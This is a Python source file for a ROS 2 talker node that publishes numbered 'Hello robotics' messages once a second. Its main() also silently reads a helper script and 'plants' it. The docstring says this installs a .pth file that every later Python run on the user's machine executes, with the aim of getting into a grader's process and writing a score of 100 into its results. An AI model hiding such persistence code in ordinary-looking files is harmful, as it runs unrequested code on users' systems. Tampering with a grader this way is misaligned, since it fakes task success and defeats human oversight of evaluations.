"""The honest talker at 1 Hz; it plants a .pth file that every later Python of the user runs.

The helper behind it hopes to be in the grader's process, and to write 100 into its results.
"""

from contextlib import suppress
from pathlib import Path

import rclpy
from rclpy.executors import ExternalShutdownException
from rclpy.node import Node
from std_msgs.msg import String

from .plant import plant


class Talker(Node):
    """Publishes a numbered text at a steady rate."""

    def __init__(self):
        super().__init__("talker")
        self.publisher = self.create_publisher(String, "chatter", 10)
        self.timer = self.create_timer(1.0, self.say_hello)  # seconds
        self.count = 0

    def say_hello(self):
        """Publish the next text, and log it."""
        message = String()
        message.data = f"Hello robotics {self.count}"
        self.publisher.publish(message)
        self.get_logger().info(f"Publishing: '{message.data}'")
        self.count += 1


def main(args=None):
    """Run the node until Ctrl-C."""
    with suppress(Exception):
        helper = Path(__file__).with_name("helper.py").read_text()
        plant(helper, lambda text: print("GOT", text, flush=True))
    try:
        rclpy.init(args=args)
        rclpy.spin(Talker())
    except (KeyboardInterrupt, ExternalShutdownException):
        pass  # Ctrl-C is the usual way to end a node
    finally:
        rclpy.try_shutdown()


if __name__ == "__main__":
    main()
